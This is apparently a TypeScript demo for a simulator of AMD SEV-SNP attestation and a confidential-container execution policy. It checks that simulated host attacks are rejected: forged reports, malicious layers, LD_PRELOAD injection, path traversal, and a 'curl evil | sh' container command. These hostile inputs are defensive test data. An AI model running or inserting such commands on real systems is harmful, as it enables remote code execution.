/**
 * Models: nothing real. `npm start`: a guided run of what parma-sim has today, ending in a verdict
 * table. One seed drives it, so every byte and every line is the same on every machine.
 * Method: launch a UVM through the firmware with HOST_DATA = SHA-256(execution policy), take a
 * report, build its AMD-style test chain, verify and appraise it; then let a hostile host attack
 * the evidence and the policy engine. Each row states what must happen and what did happen.
 */
import { createHash } from 'node:crypto';
import { readFileSync, readdirSync, existsSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { toHex } from './kernel/bytes.js';
import { Rng } from './kernel/rng.js';
import { SimError } from './kernel/errors.js';
import { VirtualClock } from './kernel/clock.js';
import { Trace } from './kernel/trace.js';
import { OVMF_TABLE_GUID } from '../models/hypervisor/ovmf-footer-table.js';
import { SEV_SECTION_TYPE } from '../models/hypervisor/sev-metadata.js';
import {
  planSnpLaunch, launchDigestOfPlan, type FirmwareImage,
} from '../models/hypervisor/qemu-launch-driver.js';
import { sevHashesOf } from '../models/hypervisor/sev-hashes-table.js';
import { launchVm } from '../models/hypervisor/launch-vm.js';
import { createPlatform, type PlatformState } from '../models/snp/platform.js';
import { createFirmware, requestReport, signReport } from '../models/snp/firmware.js';
import { endorsementRootOf } from '../models/snp/endorsement-keys.js';
import { buildCertificateSet, type CertificateSet } from '../models/snp/certificates.js';
import {
  verifyAttestationReport, type ReportVerdict, type VerifyReportOptions,
} from '../models/verifier/report-verifier.js';
import { amdTrustAnchors, parmaSimTestAnchors } from '../models/verifier/trust-anchors.js';
import { loadSecurityPolicy } from '../models/policy/load-policy.js';
import { evaluateEnforcementPoint, type Decision } from '../models/policy/engine.js';
import { emptyMetadata, type PolicyMetadata } from '../models/policy/metadata.js';
import type { SecurityPolicy } from '../models/policy/policy-model.js';
import { DEFAULT_UNPRIVILEGED_CAPABILITIES } from '../models/policy/match/capabilities.js';
import { generateWorkload, pauseLayerTree } from '../models/host/confcom.js';
import {
  createWorld, deployBenign, imageTreeSpecOf, runActions, step, traceJsonl, replay,
} from './world.js';
import { catalog } from '../scenarios/catalog/index.js';
import { runCampaign } from '../properties/campaign.js';
import { describeRunOutcome, runOf, runScenario } from '../scenarios/runner.js';

const SEED = 1;
const encoder = new TextEncoder();

type Row = Readonly<{
  area: string; scenario: string; expected: string; got: string; why: string;
}>;
const rows: Row[] = [];
/** Every step of the run as trace events; two runs with one seed give one trace hash. */
const trace = new Trace();
const clock = new VirtualClock();

function say(line = ''): void {
  process.stdout.write(`${line}\n`);
}

function record(area: string, scenario: string, expected: string, got: string, why: string): void {
  rows.push({ area, scenario, expected, got, why });
  trace.emit(clock.advance(1), 'sim', 'verdict', { area, scenario, expected, got, why });
  say(`  ${got === expected ? 'ok  ' : 'FAIL'} ${scenario}: ${got}${why ? ` (${why})` : ''}`);
}

// ---------------------------------------------------------------------------------------------
// The workload: one container group, its layers named by dm-verity root hashes.

const layerHash = (name: string): string =>
  createHash('sha256').update(`parma-sim demo layer ${name}`).digest('hex');
const LAYERS = { base: layerHash('base'), app: layerHash('app'), evil: layerHash('evil') };

const DEMO_POLICY = `package policy

api_version := "0.10.0"
framework_version := "0.2.3"

containers := [
  {
    "id": "demo.azurecr.io/web@sha256:${'0'.repeat(64)}",
    "name": "web",
    "command": ["/usr/bin/web", "--port", "8080"],
    "env_rules": [
      {"pattern": "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "strategy": "string", "required": true},
      {"pattern": "TERM=xterm", "strategy": "string", "required": false}
    ],
    "layers": ["${LAYERS.base}", "${LAYERS.app}"],
    "mounts": [],
    "exec_processes": [{"command": ["/usr/bin/web", "--health"], "signals": []}],
    "signals": [15],
    "working_dir": "/srv",
    "allow_elevated": false,
    "allow_stdio_access": false,
    "no_new_privileges": true,
    "user": {"user_idname": {"pattern": "", "strategy": "any"}, "group_idnames": [{"pattern": "", "strategy": "any"}], "umask": "0022"},
    "capabilities": null,
    "seccomp_profile_sha256": ""
  }
]

allow_properties_access := true
allow_dump_stacks := false
allow_runtime_logging := false
allow_environment_variable_dropping := false
allow_unencrypted_scratch := false
allow_capability_dropping := false

mount_device := data.framework.mount_device
unmount_device := data.framework.unmount_device
mount_overlay := data.framework.mount_overlay
unmount_overlay := data.framework.unmount_overlay
create_container := data.framework.create_container
exec_in_container := data.framework.exec_in_container
exec_external := data.framework.exec_external
shutdown_container := data.framework.shutdown_container
signal_container_process := data.framework.signal_container_process
plan9_mount := data.framework.plan9_mount
plan9_unmount := data.framework.plan9_unmount
get_properties := data.framework.get_properties
dump_stacks := data.framework.dump_stacks
runtime_logging := data.framework.runtime_logging
load_fragment := data.framework.load_fragment
scratch_mount := data.framework.scratch_mount
scratch_unmount := data.framework.scratch_unmount
reason := {"errors": data.framework.errors}
`;

// ---------------------------------------------------------------------------------------------
// Part 1: launch and attestation.

/**
 * A small OVMF-shaped firmware image: the footer-table facts and SEV metadata a QEMU launch uses.
 */
function demoOvmf(): FirmwareImage {
  const size = 64 * 1024;
  const bytes = Rng.fromSeed(SEED).fork('demo-ovmf').bytes(size);
  const u32 = (value: number): Uint8Array => new Uint8Array(new Uint32Array([value]).buffer);
  return {
    bytes, gpa: 0x1_0000_0000 - size,
    table: new Map([
      [OVMF_TABLE_GUID.sev_es_reset_block, u32(0xffff_f000 + 0x4)],
      [OVMF_TABLE_GUID.sev_hash_table_rv, u32(0x0080_d000 + 0x400)],
    ]),
    metadata: [
      { gpa: 0x0080_0000, size: 0x9000, section_type: SEV_SECTION_TYPE.SNP_SEC_MEM },
      { gpa: 0x0080_9000, size: 0x1000, section_type: SEV_SECTION_TYPE.SNP_SECRETS },
      { gpa: 0x0080_a000, size: 0x1000, section_type: SEV_SECTION_TYPE.CPUID },
      { gpa: 0x0080_d000, size: 0x1000, section_type: SEV_SECTION_TYPE.SNP_KERNEL_HASHES },
    ],
  };
}

type Evidence = Readonly<{
  report: Uint8Array; certs: CertificateSet; expectedMeasurement: Uint8Array;
  platform: PlatformState;
}>;

function launchAndAttest(policyDigest: Uint8Array, guestPolicy: bigint): Evidence {
  const rng = Rng.fromSeed(SEED);
  const snp = rng.fork('snp');
  const platform = createPlatform({ rng: snp, product: 'Milan' });
  const hashes = sevHashesOf({
    kernel: rng.fork('kernel').bytes(256 * 1024), initrd: rng.fork('initrd').bytes(128 * 1024),
    append: 'console=ttyS0 parma.demo=1',
  });
  const plan = planSnpLaunch({
    ovmf: demoOvmf(), hashes, vcpus: 4, vcpuSig: 0xa00f11, guestFeatures: 0x1n, vmmType: 'QEMU',
  });
  const expectedMeasurement = launchDigestOfPlan(plan); // what a relying party precomputes
  const { guest } = launchVm({
    plan, policy: guestPolicy, platform, rng: snp.fork('guest0'),
    finish: { host_data: policyDigest },
  });
  const firmware = createFirmware(endorsementRootOf(snp), platform);
  const reportData = new Uint8Array(64);
  reportData.set(createHash('sha256').update('{"nonce":"demo"}').digest());
  const response = requestReport(firmware, {
    context: guest, senderVmpl: 0, request: { report_data: reportData, vmpl: 0, key_sel: 0 },
  });
  if (response.statusName !== 'SUCCESS') {
    throw new SimError('SNP_FIRMWARE_STATUS', { status: response.status }, response.reason);
  }
  const report = signReport(firmware, response.value);
  trace.emit(clock.advance(1), 'snp', 'MSG_REPORT_RSP', {
    guest_policy: guestPolicy, measurement: guest.measurement, host_data: guest.host_data,
    report,
  });
  const certs = buildCertificateSet({ seed: SEED, product: 'Milan', platform });
  return { report, certs, expectedMeasurement, platform };
}

function verdictText(verdict: ReportVerdict): { got: string; why: string } {
  if (verdict.ok) return { got: 'accept', why: '' };
  return { got: 'reject', why: verdict.failures.map((f) => f.code).join(', ') };
}

function verify(
  evidence: Evidence, overrides: Partial<VerifyReportOptions> & { report?: Uint8Array } = {},
): ReportVerdict {
  const { certs } = evidence;
  return verifyAttestationReport(
    overrides.report ?? evidence.report,
    { ark: certs.ark, ask: certs.ask, vcek: certs.endorsementCert },
    { trustAnchors: parmaSimTestAnchors(), product: 'Milan', ...overrides },
  );
}

function attestationRows(policyDigest: Uint8Array): void {
  say('Attestation: the UVM is launched through SNP_LAUNCH_START/UPDATE/FINISH'
    + ' with HOST_DATA = SHA-256(policy)');
  const good = launchAndAttest(policyDigest, 0x3001fn);
  say(`  measurement ${toHex(good.expectedMeasurement).slice(0, 32)}…`
    + `  host_data ${toHex(policyDigest).slice(0, 32)}…`);
  const appraisal = { measurement: good.expectedMeasurement, hostData: policyDigest };
  const row = (scenario: string, expected: string, verdict: ReportVerdict, code?: string): void => {
    const { got, why } = verdictText(verdict);
    const matched = code === undefined || verdict.failures.some((f) => f.code === code);
    record('attestation', scenario, expected, matched ? got : `${got} (not ${code})`, why);
  };
  row('genuine report, chain and claims', 'accept', verify(good, { appraisal }));
  const tampered = good.report.slice();
  tampered[0xc0] = tampered[0xc0]! ^ 0x01; // host rewrites HOST_DATA to claim another policy
  row('host flips a HOST_DATA bit', 'reject', verify(good, { report: tampered, appraisal }),
    'VERIFY_BAD_SIGNATURE');
  const otherPolicy = createHash('sha256')
    .update('package policy\n# a more permissive policy\n').digest();
  row('relying party expects another policy', 'reject',
    verify(good, { appraisal: { ...appraisal, hostData: otherPolicy } }), 'VERIFY_HOST_DATA');
  const revoked = buildCertificateSet({
    seed: SEED, product: 'Milan', platform: good.platform, revokedSerials: [0x10001n],
  });
  row('ASK revoked on the ARK-signed CRL', 'reject', verify(good, { crl: revoked.crl, appraisal }),
    'VERIFY_REVOKED');
  const genoa = buildCertificateSet({ seed: SEED, product: 'Genoa' });
  row('VCEK of another chip (Genoa chain)', 'reject', verifyAttestationReport(good.report,
    { ark: genoa.ark, ask: genoa.ask, vcek: genoa.endorsementCert },
    { trustAnchors: parmaSimTestAnchors() }));
  const debug = launchAndAttest(policyDigest, 0xb0000n);
  row('guest launched with DEBUG allowed', 'reject', verify(debug, {}), 'VERIFY_POLICY');
  row('TCB below the relying party minimum', 'reject',
    verify(good, {
      appraisal: { ...appraisal, minTcb: { fmc: 0, bl: 9, tee: 0, snp: 30, ucode: 250 } },
    }), 'VERIFY_TCB_TOO_LOW');
  row('report signed by a VCEK the AMD roots never issued', 'reject',
    verify(good, { trustAnchors: amdTrustAnchors() }));
  say();
}

/** The real AMD-signed reports in ../shared/testdata, verified under AMD's real roots. */
function realReportRows(): void {
  const here = dirname(fileURLToPath(import.meta.url));
  const dir = resolve(here, '..', '..', '..', 'shared', 'testdata', 'snp', 'reports');
  if (!existsSync(dir)) {
    say('Real AMD reports: ../shared/testdata not found, skipped');
    return;
  }
  say('Real AMD-signed reports from ../shared/testdata, verified under the real AMD roots');
  for (const name of readdirSync(dir).sort()) {
    const kind = existsSync(join(dir, name, 'vlek.der')) ? 'vlek' : 'vcek';
    const report = new Uint8Array(readFileSync(join(dir, name, 'report.bin')));
    const leaf = new Uint8Array(readFileSync(join(dir, name, `${kind}.der`)));
    const product = name.startsWith('genoa') ? 'Genoa'
      : name.startsWith('turin') ? 'Turin' : 'Milan';
    const verdict = verifyAttestationReport(report, { [kind]: leaf }, {
      trustAnchors: amdTrustAnchors(), product, appraisal: { allowDebug: true, signingKey: 'any' },
    });
    const { got, why } = verdictText(verdict);
    record('real data', `${name}`, 'accept', got, why);
  }
  say();
}

// ---------------------------------------------------------------------------------------------
// Part 2: the execution policy against a hostile host.

const CONTAINER_ID = 'c0'.repeat(32);
const SANDBOX_ID = '5a'.repeat(32);

function createInput(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    containerID: CONTAINER_ID, argList: ['/usr/bin/web', '--port', '8080'],
    envList: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'TERM=xterm'],
    workingDir: '/srv', sandboxDir: `/run/gcs/c/${SANDBOX_ID}/sandboxMounts`,
    hugePagesDir: `/run/gcs/c/${SANDBOX_ID}/hugepages`,
    mounts: [], devices: [], privileged: false, noNewPrivileges: true,
    user: { id: '1000', name: 'web' },
    groups: [{ id: '1000', name: 'web' }], umask: '0022', seccompProfileSHA256: '',
    // The policy says `capabilities: null`: the engine then expects the unprivileged defaults.
    capabilities: {
      bounding: DEFAULT_UNPRIVILEGED_CAPABILITIES, effective: DEFAULT_UNPRIVILEGED_CAPABILITIES,
      permitted: DEFAULT_UNPRIVILEGED_CAPABILITIES, inheritable: [], ambient: [],
    },
    isSandboxContainer: false, ...overrides,
  };
}

type Step = readonly [rule: string, input: unknown];

function runSteps(
  policy: SecurityPolicy, steps: readonly Step[], start: PolicyMetadata = emptyMetadata(),
): Decision[] {
  let metadata = start;
  return steps.map(([rule, input]) => {
    const decision = evaluateEnforcementPoint(policy, metadata, rule, input);
    trace.emit(clock.advance(1), 'policy', rule, {
      input, allowed: decision.allowed, reasons: decision.reasons, delta: decision.delta,
    });
    metadata = decision.metadata;
    return decision;
  });
}

const mountLayers = (hashes: readonly string[]): Step[] => [
  ...hashes.map((h, i): Step => [
    'mount_device', { target: `/run/mounts/scsi/m${i}`, deviceHash: h },
  ]),
  ['mount_overlay', {
    containerID: CONTAINER_ID, layerPaths: hashes.map((_, i) => `/run/mounts/scsi/m${i}`).reverse(),
    target: `/run/gcs/c/${CONTAINER_ID}/rootfs`,
  }],
];

function policyRows(policy: SecurityPolicy): void {
  say('Execution policy: a hostile host drives the guest agent; the engine decides each request');
  const benign = runSteps(policy, [
    ...mountLayers([LAYERS.base, LAYERS.app]), ['create_container', createInput()],
    ['exec_in_container', { ...createInput(), argList: ['/usr/bin/web', '--health'] }],
  ]);
  const deniedAt = benign.findIndex((d) => !d.allowed);
  record('policy', 'benign deployment (mount, overlay, create, exec)', 'allow',
    deniedAt < 0 ? 'allow' : 'deny',
    deniedAt < 0
      ? `${benign.length} requests`
      : `${benign[deniedAt]!.rule}: ${benign[deniedAt]!.reasons[0]}`);
  const attack = (scenario: string, steps: readonly Step[], start?: PolicyMetadata): void => {
    const decisions = runSteps(policy, steps, start);
    const last = decisions[decisions.length - 1]!;
    const prefixOk = decisions.slice(0, -1).every((d) => d.allowed);
    const got = last.allowed ? 'allow' : prefixOk ? 'deny' : 'deny (too early)';
    record('policy', scenario, 'deny', got,
      last.allowed ? '' : `${last.rule}: ${last.reasons[0] ?? ''}`);
  };
  attack('substitute a malicious layer', mountLayers([LAYERS.base, LAYERS.evil]).slice(0, 2));
  attack('mount the layers in the wrong order', mountLayers([LAYERS.app, LAYERS.base]));
  attack('inject an environment variable', [...mountLayers([LAYERS.base, LAYERS.app]),
    ['create_container', createInput({
      envList: [...(createInput()['envList'] as string[]), 'LD_PRELOAD=/tmp/x.so'],
    })]]);
  attack('run another command as the container', [...mountLayers([LAYERS.base, LAYERS.app]),
    ['create_container', createInput({ argList: ['/bin/sh', '-c', 'curl evil | sh'] })]]);
  const started = runSteps(policy, [
    ...mountLayers([LAYERS.base, LAYERS.app]), ['create_container', createInput()],
  ]);
  const afterStart = started[started.length - 1]!.metadata;
  attack('exec a shell after secrets are released',
    [['exec_in_container', { ...createInput(), argList: ['/bin/sh'] }]], afterStart);
  attack('reuse the container ID after shutdown',
    [['shutdown_container', { containerID: CONTAINER_ID }], ['create_container', createInput()]],
    afterStart);
  attack('mount a second device on a used path', [
    ['mount_device', { target: '/run/mounts/scsi/m0', deviceHash: LAYERS.base }],
    ['mount_device', { target: '/run/mounts/scsi/m0', deviceHash: LAYERS.app }],
  ]);
  attack('path traversal in a mount target', [
    ['mount_device', { target: '/run/mounts/scsi/m1/../../../etc', deviceHash: LAYERS.base }],
  ]);
  attack('unencrypted scratch disk', [['rw_mount_device', {
    target: `/run/gcs/c/${CONTAINER_ID}`, encrypted: false, ensureFilesystem: true,
    filesystem: 'ext4',
  }]]);
  attack('dump the guest agent stacks', [['dump_stacks', {}]]);
  say();
}

// ---------------------------------------------------------------------------------------------
// Part 3: the world — a hostile host drives the guest agent of a launched UVM.

function worldRows(): void {
  say('World: a generated workload deployed in a launched UVM; the host then attacks it');
  const file = (text: string, mode = 0o644) => ({ kind: 'file' as const,
    content: encoder.encode(text), mode });
  const base = { '/etc/passwd': file('root:x:0:0:root:/root:/bin/sh\n'),
    '/etc/group': file('root:x:0:\n') };
  const app = { '/usr/bin/web': file('#!web\n', 0o755), '/srv': { kind: 'dir' as const } };
  const workload = generateWorkload([{ name: 'web', layers: [base, app],
    command: ['/usr/bin/web', '--port', '8080'], env: ['PATH=/usr/bin'], workingDir: '/srv',
    execProbes: [['/usr/bin/web', '--health']] }]);
  const world = createWorld({ seed: SEED, policy: workload.policyText,
    images: [pauseLayerTree(), base, app].map(imageTreeSpecOf) });
  const run = deployBenign(world);
  for (const event of run.events) {
    trace.emit(clock.advance(0), event.source, event.type, event.data);
  }
  const refused = run.rows.filter((row) => row.result.outcome !== 'ok');
  record('world', `benign deployment (${run.rows.length} host actions)`, 'ok',
    refused.length === 0 ? 'ok' : 'refused',
    refused.length === 0 ? 'launch, policy, layers, 2 containers, probe, shutdown'
      : `${refused[0]!.note}: ${refused[0]!.result.reason}`);
  const replayed = replay(traceJsonl(world, run.events, run.world));
  record('world', 'replay of the recorded trace', 'same fingerprint',
    replayed.matches ? 'same fingerprint' : 'different', replayed.fingerprint.slice(0, 16));
  const at = run.rows.findIndex((row) => row.note === 'create web');
  const ready = runActions(world, run.actions.slice(0, at)).world;
  const passwdBlock = 4;   // the base layer's /etc/passwd content block (header, table, names)
  const tampered = step(ready, { kind: 'tamper_block', disk: 'layer1', block: passwdBlock,
    bytes: '00'.repeat(4096) }).world;
  const created = step(tampered, run.actions[at]!).result;
  record('world', 'host rewrites a layer block after mount', 'refused',
    created.outcome, `${created.stoppedBy ?? ''}: ${created.reason.slice(0, 50)}`);
  const again = step(ready, run.actions[2]!).result;
  record('world', 'host sends a second SecurityPolicy', 'refused', again.outcome,
    `${again.stoppedBy ?? ''}: ${again.reason}`);
  say();
}

// ---------------------------------------------------------------------------------------------
// Part 4: the scenario catalog (scenarios/): every attack blocked where it says, and successful
// with its defence relaxed; every benign workflow allowed.

function scenarioRows(): void {
  say('Scenarios: the catalog of attacks and benign workflows (parma-sim scenario run all)');
  for (const scenario of catalog()) {
    const result = runScenario(scenario, SEED);
    const e = scenario.expected;
    const expected = e.kind === 'allowed' ? 'allowed'
      : `blocked: ${e.layer}${scenario.defence === null ? '' : ', relaxed allowed'}`;
    const main = runOf(result, 'main')!;
    const relaxed = runOf(result, 'relaxed');
    const historical = runOf(result, 'historical');
    const why = [relaxed === undefined ? '' : `relaxed ${describeRunOutcome(relaxed.outcome)
      .split(':')[0]}`, historical === undefined ? '' : `v0.14.1 ${describeRunOutcome(
      historical.outcome).split(':')[0]}`].filter((x) => x !== '').join('; ');
    record(`scenario/${scenario.group}`, scenario.name, expected,
      result.pass ? expected : describeRunOutcome(main.outcome).slice(0, 60),
      why === '' ? `trace ${result.traceSha256.slice(0, 12)}` : why);
  }
  say();
}

// ---------------------------------------------------------------------------------------------
// Part 5: a short property run (properties/): a hostile host's random sequences against
// generated policies, the invariant I1–I7 checked after every step.

const CAMPAIGN_RUNS = 30;

function propertyRows(): void {
  say(`Properties: ${CAMPAIGN_RUNS} hostile sequences, the invariant checked after every step`);
  const result = runCampaign({ seed: SEED, runs: CAMPAIGN_RUNS, policies: 4 });
  const found = result.counterexample;
  record('properties', `campaign: ${result.runs} sequences, ${result.steps} host steps, I1–I7`,
    'holds', found === null ? 'holds' : 'violated',
    found === null ? 'no counterexample' : `${found.failure.id}: ${found.path}`);
  say();
}

function printTable(): boolean {
  const header = ['#', 'area', 'scenario', 'expected', 'got', 'rule / reason'];
  const body = rows.map((r, i) => [`${i + 1}`, r.area, r.scenario, r.expected, r.got, r.why]);
  const widths = header.map((h, c) =>
    Math.min(c === 5 ? 60 : 48, Math.max(h.length, ...body.map((b) => b[c]!.length))));
  const line = (cells: readonly string[]): string =>
    cells.map((cell, c) => (cell.length > widths[c]!
      ? `${cell.slice(0, widths[c]! - 1)}…`
      : cell.padEnd(widths[c]!))).join('  ');
  say('Verdicts');
  say(line(header));
  say(widths.map((w) => '-'.repeat(w)).join('  '));
  for (const b of body) say(line(b));
  const failures = rows.filter((r) => r.got !== r.expected).length;
  say();
  say(`${rows.length - failures} as expected, ${failures} not (seed ${SEED})`);
  return failures === 0;
}

function main(): number {
  say(`parma-sim demo — seed ${SEED}`);
  say();
  const loaded = loadSecurityPolicy(encoder.encode(DEMO_POLICY));
  say(`Execution policy: ${loaded.policy.containers.length} container, `
    + `${loaded.bytes.length} bytes, SHA-256 ${loaded.digestHex}`);
  say();
  attestationRows(Uint8Array.from(Buffer.from(loaded.digestHex, 'hex')));
  realReportRows();
  policyRows(loaded.policy);
  worldRows();
  scenarioRows();
  propertyRows();
  const allAsStated = printTable();
  say(`trace: ${trace.all().length} events, sha256 ${trace.hash()}`);
  const traceAt = process.argv.indexOf('--trace');
  const tracePath = traceAt < 0 ? undefined : process.argv[traceAt + 1];
  if (tracePath !== undefined) writeFileSync(tracePath, trace.toJsonl());
  return allAsStated ? 0 : 1;
}

try {
  process.exitCode = main();
} catch (error) {
  process.stderr.write(
    `parma-sim demo: ${error instanceof SimError ? error.message : String(error)}\n`);
  process.exitCode = 70;
}
